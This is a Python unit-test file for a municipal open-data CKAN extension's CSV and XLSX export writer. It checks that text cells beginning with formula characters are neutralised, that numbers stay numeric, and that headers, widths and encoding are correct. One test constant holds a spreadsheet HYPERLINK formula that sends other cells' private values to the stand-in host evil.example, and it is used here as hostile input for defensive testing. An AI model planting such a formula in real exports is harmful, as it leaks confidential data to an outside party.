"""The suite's one export writer (ckanext.municipal_opendata.exports): a
text cell is data, never a formula, in CSV and in XLSX; numbers stay
numbers. Pure unit tests, no database."""
import csv
import io

import openpyxl
import pytest

from ckanext.municipal_opendata import exports

#: A dataset title that, as a live formula in the secretariat's sheet,
#: sends two other cells (another municipality's private candidate and its
#: score) to evil.example when clicked.
PAYLOAD = 'HYPERLINK("https://evil.example/?x="&C3&"|"&H3,"Open")'
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def read_csv(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", STARTS)
def test_csv_text_starting_like_a_formula_is_prefixed(start):
    text = exports.csv_text([start + "header"], [[start + PAYLOAD]])
    assert read_csv(text) == [["'" + start + "header"],
                              ["'" + start + PAYLOAD]]


def test_csv_numbers_stay_numbers_and_plain_text_is_unchanged():
    text = exports.csv_text(["a", "b", "c", "d", "e"],
                            [[-3, -2.5, 0, "Leuven", None]])
    assert read_csv(text)[1] == ["-3", "-2.5", "0", "Leuven", ""]


def test_csv_text_that_looks_like_a_negative_number_is_text():
    # text is prefixed by what it starts with, not by what it looks like
    assert exports.csv_cell("-3") == "'-3"
    assert exports.csv_cell(-3) == -3
    assert exports.csv_cell(True) == "True"
    assert exports.csv_cell("a=b") == "a=b"


def cells(data, sheet=None):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [list(row) for row in (book[sheet] if sheet else book.active)]


@pytest.mark.parametrize("start", STARTS)
def test_xlsx_text_is_a_string_cell_whatever_it_starts_with(start):
    data = exports.xlsx_bytes([exports.Sheet(
        "Ranking", [start + "header"], [[start + PAYLOAD, -1, 2.5]])])
    (header, *_), (title, negative, number) = cells(data)
    assert (header.data_type, header.value) == ("s", start + "header")
    assert (title.data_type, title.value) == ("s", start + PAYLOAD)
    assert (negative.data_type, negative.value) == ("n", -1)
    assert (number.data_type, number.value) == ("n", 2.5)


def test_xlsx_sheets_and_control_characters():
    data = exports.xlsx_bytes([
        exports.Sheet("Coverage", ["x"], [["a\x0bb\x00c", None]]),
        exports.Sheet("Joint publication", ["y"], [])])
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Coverage", "Joint publication"]
    row = [c.value for c in book["Coverage"][2]]
    assert row[0] == "abc"
    assert book["Coverage"]["A1"].font.bold


# -- issue #20: files that open cleanly in a spreadsheet -----------------------

def test_csv_file_starts_with_a_bom_and_keeps_accents():
    data = exports.csv_bytes(["Kommune", "Score"],
                             [["Århus æøå, Gent ë", 77.3]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_csv(data.decode("utf-8-sig")) == [
        ["Kommune", "Score"], ["Århus æøå, Gent ë", "77.3"]]


def test_column_widths_fit_their_longest_cell_within_bounds():
    assert exports.column_widths([["Rank", "Why"], [1, "x" * 30],
                                  [12, "x" * 500], [2.25, None]]) == [
        exports.MIN_WIDTH, exports.MAX_WIDTH]
    assert exports.column_widths([["Municipality"], ["Gent"]]) == [14]


def test_xlsx_header_bold_frozen_filtered_and_fitted():
    data = exports.xlsx_bytes([
        exports.Sheet("Ranking", ["Rank", "Municipality", "Why"],
                      [[1, "Gent", "x" * 200], [2, "Aarhus", "short"]]),
        exports.Sheet("About", ["Column", "What it holds"],
                      [["Rank", "Place"]], freeze="A2")])
    book = openpyxl.load_workbook(io.BytesIO(data))
    ranking, about = book["Ranking"], book["About"]
    assert [c.font.bold for c in ranking[1]] == [True] * 3
    assert not ranking["A2"].font.bold
    assert (ranking.freeze_panes, about.freeze_panes) == ("B2", "A2")
    assert (ranking.auto_filter.ref, about.auto_filter.ref) == (
        "A1:C3", "A1:B2")
    widths = [ranking.column_dimensions[c].width for c in "ABC"]
    assert widths == [exports.MIN_WIDTH, 14, exports.MAX_WIDTH]
    assert ranking["C2"].alignment.wrap_text  # long text wraps
    assert ranking["A2"].data_type == "n"
